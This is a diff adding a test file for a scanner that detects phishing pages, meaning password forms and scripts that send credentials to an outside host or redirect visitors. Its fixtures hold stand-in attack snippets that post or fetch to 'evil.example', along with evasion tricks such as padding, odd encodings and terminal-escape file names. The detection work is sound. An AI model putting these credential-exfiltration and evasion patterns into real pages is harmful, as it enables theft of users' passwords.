@@ -1,0 +1,90 @@
+/** What of a page is flagged, and what is not: bad pages in the ways that hide them, and good ones that look like them. */
+import { describe, expect, test } from 'vitest';
+import { bad, good, scan } from './corpus.ts';
+import { readTemplate, templateNames } from './templates.ts';
+
+const form = '<form action="https://evil.example/"><input type="password"></form>';
+
+describe('what is flagged', () => {
+  test.each(bad)('%s: %s', async (kind, _name, page) => {
+    expect((await scan({ 'index.html': page })).kinds).toEqual([`index.html ${kind}`]);
+  });
+
+  test('a script of the site that a page with a password field names, and one that speaks of passwords itself', async () => {
+    const sends = 'fetch("https://evil.example/")';
+    const files = { 'in/index.html': '<input type="password"><script src="../a%20b.js"></script>', 'a b.js': sends };
+    expect((await scan(files)).kinds).toEqual(['in/index.html password_sent']);
+    expect((await scan({ 'x.mjs': `const password = q("#p"); ${sends}` })).kinds).toEqual(['x.mjs password_sent']);
+    expect((await scan({ 'x.js': 'location.replace("https://evil.example/")' })).kinds).toEqual(['x.js redirect']);
+  });
+
+  test('what stands behind 10 MB of nothing, in broken bytes, or in UTF-16', async () => {
+    const broken = Buffer.concat([Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0]), Buffer.from(form)]);
+    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(form, 'utf16le')]);
+    const far = `<p>${'x'.repeat(9_000_000)}</p>${'<br>'.repeat(250_000)}${form}`;
+    const script = `${'a=1;'.repeat(2_500_000)}password;fetch("https://evil.example/")`;
+    const files = { 'b.html': broken, 'w.html': wide, 'f.html': far, 's.js': script };
+    expect((await scan(files)).kinds).toEqual([
+      'b.html password_form',
+      'f.html password_form',
+      's.js password_sent',
+      'w.html password_form',
+    ]);
+  }, 30_000);
+
+  test('a page that is nested too deep to be read says so', async () => {
+    expect((await scan({ 'd.html': `${'<b>'.repeat(200_000)}${form}` })).kinds).toEqual(['d.html unread']);
+  });
+
+  test('an address on the border between two pieces of a script', async () => {
+    for (const before of [262_100, 262_130, 262_144, 262_150]) {
+      const script = `${' '.repeat(before)}password;fetch("https://evil.example/")`;
+      expect((await scan({ 's.js': script })).kinds).toEqual(['s.js password_sent']);
+    }
+  });
+});
+
+describe('what is not', () => {
+  test.each(good)('%s', async (_name, page) => {
+    expect((await scan({ 'index.html': page })).found).toEqual([]);
+  });
+
+  test.each(templateNames())('the starter %s', async (name) => {
+    expect((await scan(await readTemplate(name))).found).toEqual([]);
+  });
+
+  test('files that were scanned before are not read again', async () => {
+    const files = { 'a.html': form, 'b.html': form, 'c.png': 'x', 'd.css': 'x' };
+    expect(await scan(files, ['a.html'])).toMatchObject({ kinds: ['b.html password_form'], reads: ['b.html'] });
+  });
+});
+
+test('an excerpt is short, one line, and turns no terminal around', async () => {
+  const action = `https://evil.example/\u202e\u001b[2J${'x'.repeat(5_000)}\n`;
+  const { found } = await scan({
+    [`\u001b]0;x\u0007\u202e.html`]: `<form action="${action}"><input type="password"></form>`,
+  });
+  for (const { path, excerpt } of found) expect(`${path}${excerpt}`).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
+  expect(found.map(({ excerpt }) => excerpt.length)).toEqual([200]);
+});
+
+test('hostile text takes a scan no longer than its size does', async () => {
+  const mb = 1_000_000;
+  const texts = [
+    'location=a;{'.repeat(mb / 12),
+    'fetch({'.repeat(mb / 7),
+    '"+'.repeat(mb / 2),
+    'a'.repeat(mb),
+    'a= '.repeat(mb / 3),
+    ' '.repeat(mb),
+    'function a(){location="https://evil.example/"}'.repeat(mb / 46),
+    '\\x'.repeat(mb / 2),
+    'atob("'.repeat(mb / 6),
+    'seed '.repeat(mb / 5),
+  ];
+  for (const text of texts) {
+    const began = performance.now();
+    await scan({ 's.js': text, 'p.html': `<p>${text}</p><script>${text}</script>` });
+    expect([text.slice(0, 12), performance.now() - began < 5_000]).toEqual([text.slice(0, 12), true]);
+  }
+}, 60_000);
